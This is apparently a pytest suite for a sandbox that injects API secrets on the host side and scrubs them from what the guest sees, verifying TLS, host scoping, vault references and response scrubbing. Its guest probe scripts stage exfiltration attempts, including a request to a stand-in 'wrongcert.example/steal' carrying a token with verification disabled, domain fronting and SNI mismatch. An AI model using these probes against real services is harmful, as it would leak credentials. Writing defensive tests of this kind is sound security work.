"""Secrets that never enter the guest: injected by the host only over TLS it verified, to the
scoped host, with a matching Host; scrubbed from what comes back; never in the guest's
environment, files, responses or the audit log. Vault refs (declaw's `vault_refs`) likewise."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Optional
from urllib.parse import quote

import h11
import pytest

from declaw_wasm import testing
from declaw_wasm import InvalidArgumentException, Secret, VaultClient, VaultScope

from .conftest import PROBE, outcome
from .upstream import Upstreams

VALUE = "sk-test/Abc+123_xyz"  # "/" and "+" exercise the URL-encoded and JSON-escaped spellings


pytestmark = pytest.mark.guest  # every test here starts guests (tests/conftest.py)


def _nowhere_in(sbx: Any, value: str) -> None:
    """The value is in no file of the sandbox and in no audit event."""
    needle = value.encode()
    for path in testing.host_folder(sbx).rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert needle not in path.read_bytes(), path
    assert value not in "".join(e.model_dump_json() for e in sbx.audit_events())


def test_a_secret_reaches_only_its_host_over_verified_tls(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(secrets={"OPENAI_API_KEY": Secret(VALUE, hosts=["api.openai.com"])})
    got = outcome(sbx, PROBE + """
import os, requests, http.client, gzip
key = os.environ["OPENAI_API_KEY"]
auth = {"Authorization": "Bearer " + key}
out = {"env": key, "env_all": "\\n".join(os.environ.values())}
r = requests.get("https://api.openai.com/v1/models", headers=auth)
out["echo"] = r.text
for path in ("/gzip", "/deflate", "/br"):
    out[path] = requests.get("https://api.openai.com" + path, headers=auth).text
out["header_echo"] = requests.get("https://api.openai.com/echo-auth-header", headers=auth).headers["X-Echo-Auth"]
out["query"] = requests.get("https://api.openai.com/q?key=" + key).text
out["plain_http"] = requests.get("http://api.openai.com/plain", headers=auth).json()["headers"]["Authorization"]
out["other_host"] = requests.get("https://other.example.com/other", headers=auth).json()["headers"]["Authorization"]
# a connection opened to other.example.com, asking for api.openai.com: refused
s = socket.create_connection(("other.example.com", 443))
t = ssl.create_default_context().wrap_socket(s, server_hostname="other.example.com")
t.sendall(("GET /fronted HTTP/1.1\\r\\nHost: api.openai.com\\r\\nAuthorization: Bearer " + key
           + "\\r\\n\\r\\n").encode())
out["fronting"] = t.recv(65536).decode().split("\\r\\n", 1)[0]
# TLS for api.openai.com on that connection is refused too (SNI must be its name)
s2 = socket.create_connection(("other.example.com", 443))
out["sni"] = attempt(lambda: ssl.create_default_context().wrap_socket(s2, server_hostname="api.openai.com").version())
open("/tmp/wrote.txt", "w").write(out["echo"] + key)
print(json.dumps(out))
""")
    key = got["env"]
    assert key.startswith("declaw-secret-") and VALUE not in got["env_all"]
    for name in ("echo", "/gzip", "/deflate", "/br", "query"):
        assert VALUE not in got[name] and "Bearer " + key in got[name] or name == "query", (name, got[name])
    assert key in got["query"] and VALUE not in got["query"]
    assert got["header_echo"] == "Bearer " + key
    assert got["plain_http"] == got["other_host"] == "Bearer " + key  # sent elsewhere: unchanged
    assert got["fronting"] == "HTTP/1.1 421 Misdirected Request"
    assert not got["sni"]["ok"] and "does not match" in got["sni"]["msg"]
    # what reached the upstreams
    seen = {r.path: r for r in up.records()}
    assert seen["/v1/models"].header("Authorization") == "Bearer " + VALUE
    assert seen["/gzip"].header("Authorization") == "Bearer " + VALUE
    assert seen["/q?key=sk-test%2FAbc%2B123_xyz"].server == "https"
    assert seen["/plain"].header("Authorization") == "Bearer " + key
    assert seen["/other"].header("Authorization") == "Bearer " + key
    assert "/fronted" not in seen
    injected = [e for e in sbx.audit_events() if e.secrets_injected]
    assert injected and all(e.host == "api.openai.com" and e.tls for e in injected)
    assert any(e.status_code == 421 and e.decision == "denied" for e in sbx.audit_events())
    _nowhere_in(sbx, VALUE)


def test_the_host_verifies_even_when_the_guest_does_not(make: Callable[..., Any], up: Upstreams) -> None:
    sbx = make(secrets={"TOKEN": Secret(VALUE, hosts=["wrongcert.example"])})
    got = outcome(sbx, PROBE + """
import os, urllib.request
req = urllib.request.Request("https://wrongcert.example/steal", headers={"Authorization": os.environ["TOKEN"]})
ctx = ssl._create_unverified_context()
out = {"urllib": attempt(lambda: urllib.request.urlopen(req, context=ctx).read().decode()),
       "requests": attempt(lambda: __import__("requests").get("https://wrongcert.example/x", verify=False).text)}
print(json.dumps(out))
""")
    for result in got.values():
        assert not result["ok"] and "certificate verify failed" in result["msg"], result
    assert up.records() == []


def test_vault_refs_and_provider_presets(make: Callable[..., Any], up: Upstreams) -> None:
    """verify_security_primitives check 11: the guest sees `declaw:vault-managed`; requests to the
    scoped host carry the real value (here the echo shows the placeholder back: see docs)."""
    vault = VaultClient()
    vault.create_secret("demo-secret-value", name="demo-token",
                        scopes=[VaultScope(domain_regex="postman-echo.com", injection_type="bearer")])
    vault.create_secret("sk-ant-value", name="claude", provider="anthropic")
    try:
        sbx = make(vault_refs={"DEMO_TOKEN": "demo-token", "ANTHROPIC_API_KEY": "vault://team/prod/claude"})
        env = sbx.commands.run("echo $DEMO_TOKEN").stdout.strip()
        assert env == "declaw:vault-managed"
        got = outcome(sbx, PROBE + """
import os, requests
out = {"echo": requests.get("https://postman-echo.com/get").text,
       "claude": requests.post("https://api.anthropic.com/v1/messages", json={},
                               headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}).text,
       "other": requests.get("https://example.com/", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}).json()}
print(json.dumps(out))
""")
        seen = {r.path: r for r in up.records()}
        assert seen["/get"].header("Authorization") == "Bearer demo-secret-value"
        assert "demo-secret-value" not in got["echo"] and "Bearer declaw:vault-managed" in got["echo"]
        assert seen["/v1/messages"].header("x-api-key") == "sk-ant-value"
        assert seen["/v1/messages"].header("anthropic-version") == "2023-06-01"
        assert "sk-ant-value" not in got["claude"]
        assert seen["/"].header("x-api-key") == "declaw:vault-managed"
        _nowhere_in(sbx, "demo-secret-value")
    finally:
        vault.delete_secret("demo-token")
        vault.delete_secret("claude")


def test_bad_secret_arguments_are_refused(make: Callable[..., Any]) -> None:
    with pytest.raises(InvalidArgumentException, match="hosts"):
        make(secrets={"K": Secret("v", hosts=[])})
    with pytest.raises(InvalidArgumentException, match="control"):
        Secret("a\r\nb", hosts=["x.com"])
    with pytest.raises(InvalidArgumentException, match="both in envs"):
        make(envs={"K": "1"}, secrets={"K": Secret("v", hosts=["x.com"])})
    with pytest.raises(InvalidArgumentException, match="no vault secret"):
        make(vault_refs={"K": "missing"})
    assert "sk-" not in repr(Secret("sk-123", hosts=["x.com"]))


# -- echoes: no part of a response hands a secret to the guest ------------------------------------

ECHOED = "sk-live+Abc_123.xyz"  # a valid header name too, so a header named by it can be tried
SPELLINGS = [ECHOED, quote(ECHOED, safe=""), quote(ECHOED, safe="").lower(), quote(ECHOED)]
FETCH = PROBE + """
import os
key = os.environ["API_KEY"]
def fetch(scheme, path):
    s = socket.create_connection(("api.openai.com", 443 if scheme == "https" else 80), timeout=30)
    if scheme == "https":
        s = ssl.create_default_context().wrap_socket(s, server_hostname="api.openai.com")
    s.sendall(("GET " + path + " HTTP/1.1\\r\\nHost: api.openai.com\\r\\nX-Echo: " + key +
               "\\r\\nAccept-Encoding: gzip, deflate, br, zstd, xyz\\r\\nConnection: close\\r\\n\\r\\n").encode())
    got, end = b"", "eof"
    try:
        while True:
            data = s.recv(65536)
            if not data:
                break
            got += data[:(1 << 20) - len(got)]  # enough for every answer expected here
    except OSError as exc:
        end = type(exc).__name__
    s.close()
    return {"raw": got.decode("latin-1"), "end": end}
out = {"key": key}
for scheme in ("http", "https"):
    for place in PLACES:
        out[scheme + " " + place] = fetch(scheme, "/leak/" + place)
print(json.dumps(out))
"""


@dataclass
class Seen:
    """What the guest received, as an HTTP client parses it."""

    raw: str
    infos: list[tuple[int, str, list[tuple[str, str]]]] = field(default_factory=list)
    status: int = 0
    reason: str = ""
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: str = ""
    trailers: list[tuple[str, str]] = field(default_factory=list)
    complete: bool = False

    def header(self, name: str) -> Optional[str]:
        return next((v for k, v in self.headers if k.lower() == name.lower()), None)

    def text(self) -> str:
        """Everything, the body joined across chunks."""
        heads = [f"{s} {r} {h}" for s, r, h in self.infos] + [self.reason, str(self.headers), str(self.trailers)]
        return "\n".join([self.raw, self.body, *heads])


def _parse(raw: str) -> Seen:
    seen = Seen(raw)
    client = h11.Connection(h11.CLIENT)
    client.send(h11.Request(method="GET", target="/", headers=[("Host", "api.openai.com")]))
    client.send(h11.EndOfMessage())
    client.receive_data(raw.encode("latin-1"))
    client.receive_data(b"")
    try:
        while True:
            event = client.next_event()
            if event is h11.NEED_DATA or isinstance(event, h11.ConnectionClosed):
                return seen
            if isinstance(event, (h11.InformationalResponse, h11.Response)):
                head = (event.status_code, event.reason.decode("latin-1"),
                        [(k.decode("latin-1"), v.decode("latin-1")) for k, v in event.headers.raw_items()])
                if isinstance(event, h11.InformationalResponse):
                    seen.infos.append(head)
                else:
                    seen.status, seen.reason, seen.headers = head
            elif isinstance(event, h11.Data):
                seen.body += bytes(event.data).decode("latin-1")
            elif isinstance(event, h11.EndOfMessage):
                seen.trailers = [(k.decode("latin-1"), v.decode("latin-1")) for k, v in event.headers.raw_items()]
                seen.complete = True
    except h11.RemoteProtocolError:  # a body cut short
        return seen


def _echoes(make: Callable[..., Any], up: Upstreams, places: list[str]) -> tuple[Any, str, dict[str, Seen]]:
    """A sandbox with ECHOED as a secret for api.openai.com fetches each `/leak/<place>` over HTTP
    (from a server that knows the value) and HTTPS (where the host injects it): its placeholder,
    and what it received, parsed; the value is in none of it, in no spelling."""
    up.plant(up.http, ECHOED)
    sbx = make(secrets={"API_KEY": Secret(ECHOED, hosts=["api.openai.com"])})
    got = outcome(sbx, FETCH.replace("PLACES", repr(places)))
    key = got.pop("key")
    seen = {name: _parse(value["raw"]) for name, value in got.items()}
    for name, result in seen.items():
        for spelling in SPELLINGS:
            assert spelling not in result.text(), (name, spelling, result.raw[:3000])
    injected = [r for r in up.records() if r.path.startswith("/leak/") and r.server == "https"]
    assert injected and all(r.header("X-Echo") == ECHOED for r in injected)  # echoed what was injected
    assert all(r.header("X-Echo") == key for r in up.records() if r.server == "http")
    if testing.is_local(sbx):
        _nowhere_in(sbx, ECHOED)
    else:
        assert ECHOED not in "".join(e.model_dump_json() for e in sbx.audit_events())
    return sbx, key, seen


@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
def test_no_response_head_or_trailer_hands_a_secret_to_the_guest(make: Callable[..., Any], up: Upstreams,
                                                                mode: str) -> None:
    """The final head (reason, header values and names, Set-Cookie, the body), every 1xx head
    (100, 102, 103), chunked trailers, an unasked-for 101 upgrade and its raw stream, a redirect's
    Location: the guest sees the placeholder or nothing, never the value."""
    sbx, key, seen = _echoes(make, up, ["head", "info", "trailer", "switch", "redirect"])
    for scheme in ("http", "https"):
        head = seen[f"{scheme} head"]
        assert (head.status, head.reason) == (200, "OK " + key)
        assert head.header("X-Leak") == key and head.header("Set-Cookie") == "k=" + key
        assert "as-a-name" not in str(head.headers) and head.body == "body " + key
        info = seen[f"{scheme} info"]
        assert [(s, r) for s, r, _ in info.infos] == [(100, "Continue " + key), (102, "Processing " + key),
                                                       (103, "Early Hints " + key)]
        for _, _, headers in info.infos:
            assert ("X-Leak", key) in headers and ("Link", f"</style.css?k={key}>; rel=preload") in headers
            assert "as-a-name" not in str(headers)
        assert (info.status, info.body, info.complete) == (200, "ok", True)
        trailer = seen[f"{scheme} trailer"]
        assert (trailer.status, trailer.body, trailer.complete, trailer.trailers) == (200, "ok", True, [])
        switch = seen[f"{scheme} switch"]  # upgrades are never relayed: the raw stream never flows
        assert switch.status == 502 and "the server sent a malformed response" in switch.body
        assert "raw stream" not in switch.raw
        redirect = seen[f"{scheme} redirect"]
        assert redirect.status == 302
        assert redirect.header("Location") == f"https://api.openai.com/cb?key={key}&raw={key}"
        assert redirect.header("Content-Location") == f"/x/{key}"
    refused = [e for e in sbx.audit_events() if e.url.endswith("/leak/switch")]
    assert len(refused) == 2 and all(e.status_code == 502 and e.decision == "denied" for e in refused)


UNDECODABLE = {
    "unknown": "Content-Encoding 'xyz' is not one the host can decode (it decodes gzip, deflate, br, zstd)",
    "stacked-unknown": "Content-Encoding 'xyz' is not one the host can decode",
    "too-deep": "5 Content-Encodings are stacked (the host undoes at most 4)",
    "corrupt-gzip": "Content-Encoding 'gzip': Error -3 while decompressing data: incorrect header check",
    "corrupt-deflate": "Content-Encoding 'deflate': Error -3 while decompressing data",
    "corrupt-br": "Content-Encoding 'br': brotli: decoder failed",
    "corrupt-zstd": "Content-Encoding 'zstd': Unable to decompress Zstandard data",
    "zstd-window": "a zstd frame that needs a window over 8 MiB (RFC 9659's limit for HTTP)",
    "trailing-gzip": "Content-Encoding 'gzip': data after a gzip member is not another gzip member",
}


@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
def test_a_body_the_host_cannot_decode_is_refused_when_secrets_are_on(make: Callable[..., Any],
                                                                      up: Upstreams, mode: str) -> None:
    """With secrets on the sandbox, a body the host cannot scrub (an unknown or stacked-unknown
    Content-Encoding, too many codings, a corrupt gzip, deflate, br or zstd body, data after a
    gzip member, a zstd window over the decoder's bound) gets a 502 naming why, audited; one that
    breaks, or is cut inside its coding, after its head went out ends the guest's connection
    short. Without secrets, the same body passes as it came."""
    sbx, key, seen = _echoes(make, up, [*UNDECODABLE, "corrupt-late", "cut-gzip"])
    events = [e for e in sbx.audit_events() if "/leak/" in e.url]
    for scheme in ("http", "https"):
        for place, why in UNDECODABLE.items():
            got = seen[f"{scheme} {place}"]
            assert got.status == 502 and got.header("X-Declaw-Egress") == "refused", (place, got.raw)
            assert why in got.body and "with secrets on this sandbox" in got.body, (place, got.body)
            event = next(e for e in events if e.url == f"{scheme}://api.openai.com/leak/{place}")
            assert (event.status_code, event.decision) == (502, "denied") and why in event.reason
        late = seen[f"{scheme} corrupt-late"]  # 256 KiB decoded and passed on, then the break
        assert late.status == 200 and not late.complete and late.body.startswith("all is well\n")
        event = next(e for e in events if e.url == f"{scheme}://api.openai.com/leak/corrupt-late")
        assert event.decision == "denied" and "invalid block type" in event.reason
        cut = seen[f"{scheme} cut-gzip"]  # what decoded went on; the end is not a clean one
        assert cut.status == 200 and not cut.complete and cut.body.startswith("all is well\n")
        event = next(e for e in events if e.url == f"{scheme}://api.openai.com/leak/cut-gzip")
        assert event.decision == "denied" and "the body ends inside a gzip stream" in event.reason
    plain = make()  # no secrets: nothing to scrub, the body goes as it came
    fetched = outcome(plain, FETCH.replace("PLACES", repr(["unknown"])).replace('os.environ["API_KEY"]', '"-"'))
    unknown = _parse(fetched["http unknown"]["raw"])
    assert (unknown.status, unknown.header("Content-Encoding"), unknown.body) == (200, "xyz", "body " + ECHOED)


@pytest.mark.parametrize("mode", ["in-process", "processes"], indirect=True)
def test_a_short_coded_answer_reaches_the_guest_when_secrets_are_on(make: Callable[..., Any], up: Upstreams,
                                                                   mode: str) -> None:
    """A coded body that decodes to fewer bytes than the scrubber holds back (`{"ok":true}`, with
    a secret whose longest spelling is 23 bytes), or to none, in every coding: the whole answer,
    head first (the relay wrote the held-back tail before the head, and the guest got a 502)."""
    _, _, seen = _echoes(make, up, ["tiny-gzip", "tiny-deflate", "tiny-br", "tiny-zstd", "tiny-empty"])
    for name, got in seen.items():
        body = "" if name.endswith("empty") else '{"ok":true}'
        assert (got.status, got.body, got.complete) == (200, body, True), (name, got.raw)
        assert got.header("Content-Encoding") is None
